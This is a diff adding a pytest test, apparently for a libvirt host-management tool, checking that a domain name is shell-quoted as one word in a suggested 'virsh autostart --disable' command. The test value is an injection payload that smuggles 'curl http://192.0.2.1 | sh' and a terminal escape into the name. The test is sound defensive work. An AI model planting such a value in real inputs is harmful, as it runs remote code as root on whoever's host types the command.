@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from datetime import UTC, datetime
 
 import pytest
@@ -168,6 +169,18 @@ def test_disk_waits_for_its_host_with_the_images_that_it_is_built_upon() -> None
         Disk("vda", path="/shared/b"),
         Disk("vda", path="/local/c"),
     )
+
+
+def test_command_for_a_person_has_the_name_of_a_domain_as_one_word() -> None:
+    """A captured host, or a tenant, gives it: whoever types the command is root on that host."""
+    name = "a; curl http://192.0.2.1 | sh \x1b[2K"
+    domain = Domain("u", name, True, DomainState.RUNNING)
+
+    why = waits_for_host(domain, _shared, autostart=True)
+
+    typed = why.partition("before any component can check whether it runs elsewhere: ")[2]
+    words = shlex.split(typed.partition(", and disable")[0])
+    assert words == ["virsh", "autostart", "--disable", name]
 
 
 def test_a_domain_whose_document_is_not_read_whole_stays() -> None:
